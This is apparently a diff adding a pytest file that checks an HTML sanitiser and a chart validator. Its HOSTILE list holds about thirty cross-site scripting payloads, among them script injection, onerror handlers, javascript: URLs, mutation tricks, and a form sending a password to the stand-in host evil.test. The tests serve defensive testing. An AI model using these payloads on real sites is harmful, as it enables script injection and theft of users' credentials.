@@ -1,0 +1,161 @@
+"""Values that are more than a line: charts are checked, html is made harmless."""
+
+from html.parser import HTMLParser
+
+import msgspec
+import pytest
+
+from belvedere.base.errors import Invalid
+from belvedere.indicators import chart, html
+from belvedere.indicators.chart import Chart, ChartSeries
+
+PICTURE = "data:image/png;base64,iVBORw0KGgo="
+# Each tries to run, load, send or cover something.
+HOSTILE = [
+    "<script>canary()</script>",
+    "<SCRIPT SRC=//evil.test/x></SCRIPT>",
+    "<img src=x onerror=canary()>",
+    "<img src=//evil.test/x.png>",
+    "<img src=https://evil.test/x.png>",
+    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
+    "<svg><script>canary()</script></svg>",
+    "<svg onload=canary()><a xlink:href='javascript:canary()'>x</a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
+    "<a href='javascript:canary()'>x</a>",
+    "<a href='jAvA\tscript:canary()'>x</a>",
+    "<a href='&#106;avascript:canary()'>x</a>",
+    "<a href='data:text/html,<script>canary()</script>'>x</a>",
+    "<a href='/api/auth/logout'>x</a>",
+    "<a href='//evil.test'>x</a>",
+    "<a href='vbscript:canary()'>x</a>",
+    "<iframe src=//evil.test></iframe>",
+    "<iframe srcdoc='<script>canary()</script>'></iframe>",
+    "<object data=//evil.test></object><embed src=//evil.test>",
+    "<form action=//evil.test><input name=password><button>canary</button></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'><base href=//evil.test>",
+    "<link rel=stylesheet href=//evil.test><style>@import '//evil.test'</style>",
+    "<p style='position:fixed;inset:0;background:url(//evil.test)'>x</p>",
+    "<p style='width:expression(canary())' onclick=canary() id=app class=tile>x</p>",
+    "<video src=//evil.test autoplay onplay=canary()></video><audio src=//evil.test></audio>",
+    '<noscript><p title="</noscript><img src=x onerror=canary()>">',
+    "<!--><img src=x onerror=canary()>-->",
+    "<template><img src=x onerror=canary()></template>",
+    "<details open ontoggle=canary()>x</details>",
+    "<textarea><img src=x onerror=canary()></textarea>",
+    "<xmp><img src=x onerror=canary()></xmp>",
+    "<plaintext><img src=x onerror=canary()>",
+    "<img alt='`><img src=x onerror=canary()>'>",
+]
+
+
+class Seen(HTMLParser):
+    """Every tag and attribute of a text."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str]] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes += [(name, value or "") for name, value in attrs]
+
+
+def test_it_works() -> None:
+    text = "<h3>Shifts</h3><table><tr><td style='color:red'>Ada</td></tr></table>"
+    kept = html.kept(text)
+    assert kept.startswith("<h3>Shifts</h3><table>") and 'style="color:red"' in kept
+    assert html.kept(kept) == kept
+    assert html.plain(kept) == "Shifts Ada"
+    assert html.kept(f'<img src="{PICTURE}" alt="x">') == f'<img src="{PICTURE}" alt="x">'
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_could_act_is_gone(text: str) -> None:
+    kept = html.kept(f"<p>before</p>{text}")
+    seen = Seen(kept)
+    assert seen.tags <= html.TAGS
+    for name, value in seen.attributes:
+        assert not name.startswith("on") and name not in ("id", "class"), kept
+        assert "evil.test" not in value and "position" not in value, kept
+        assert name not in ("href", "src", "action", "data", "srcdoc"), kept
+    assert "before" in html.plain(kept)
+    assert html.kept(kept) == kept or "<a" in kept
+
+
+def test_a_link_leaves_the_tile_and_tells_nothing() -> None:
+    seen = Seen(html.kept('<a href="https://status.test/?a=1&amp;b=2" target="_top">x</a>'))
+    assert dict(seen.attributes) == {
+        "href": "https://status.test/?a=1&b=2",
+        "target": "_blank",
+        "rel": "noopener noreferrer",
+    }
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        5,
+        None,
+        "x" * (html.MAX_HTML + 1),
+        "a\0b",
+        "\ud800",
+        "<div>" * 300,
+        "<DIV></b>" * 300,
+        "&" * html.MAX_HTML,
+    ],
+)
+def test_html_that_cannot_be_kept_is_refused(text: object) -> None:
+    with pytest.raises(Invalid):
+        html.kept(text)
+
+
+def test_a_long_table_is_not_deep() -> None:
+    assert html.kept("<table>" + "<tr><td>1" * 3_000).count("<td>") == 3_000
+
+
+def test_a_chart_comes_back_as_it_was() -> None:
+    given = Chart([ChartSeries("a", [1, None, 2.5])], "bar", labels=["x", "y", "z"], unit="ms")
+    text = chart.kept(given)
+    assert chart.read(text) == given
+    # The command line has only texts.
+    assert chart.kept(text) == text
+    assert chart.last(given) == 2.5
+    assert (chart.last(chart.EMPTY), chart.kept(chart.EMPTY) != "") == ("", True)
+    assert chart.last(Chart([ChartSeries("a", [7, None])])) == 7
+
+
+TIMES = ["2026-01-31T08:00:00Z", "2026-01-31T09:00:00Z"]
+
+
+@pytest.mark.parametrize(
+    "given, field",
+    [
+        ("{", "value"),
+        ("[]", "value"),
+        ("half", "value"),
+        (5, "value"),
+        ('{"series": [], "more": 1}', "value"),
+        ('{"series": [{"name": "a", "values": ["x"]}]}', "value"),
+        ('{"series": [{"name": "", "values": []}]}', "value.series[0].name"),
+        ('{"series": [{"name": "a", "values": [1e400]}]}', "value"),
+        ('{"series": [], "kind": "pie"}', "value.kind"),
+        ('{"series": [], "unit": "two\\nlines"}', "value.unit"),
+        (
+            '{"series": [{"name": "a", "values": [1]}], "labels": ["x", "y"]}',
+            "value.series[0].values",
+        ),
+        (Chart([], labels=["x"], times=TIMES[:1]), "value.times"),
+        (Chart([], times=TIMES[::-1]), "value.times"),
+        (Chart([], times=["noon"]), "value.times"),
+        (Chart([ChartSeries("a", [1] * 501)]), "value.series[0].values"),
+        (Chart([ChartSeries("a", [])] * 9), "value.series"),
+        (Chart([ChartSeries("a", [float("inf")])]), "value.series[0].values"),
+        (Chart([ChartSeries("a", [-1.2345678901234567e-100] * 500)] * 8), "value"),
+    ],
+)
+def test_a_chart_that_cannot_be_drawn_is_refused(given: object, field: str) -> None:
+    with pytest.raises(Invalid) as refused:
+        chart.kept(given)
+    assert refused.value.faults[0].field == field, msgspec.json.encode(refused.value.faults)
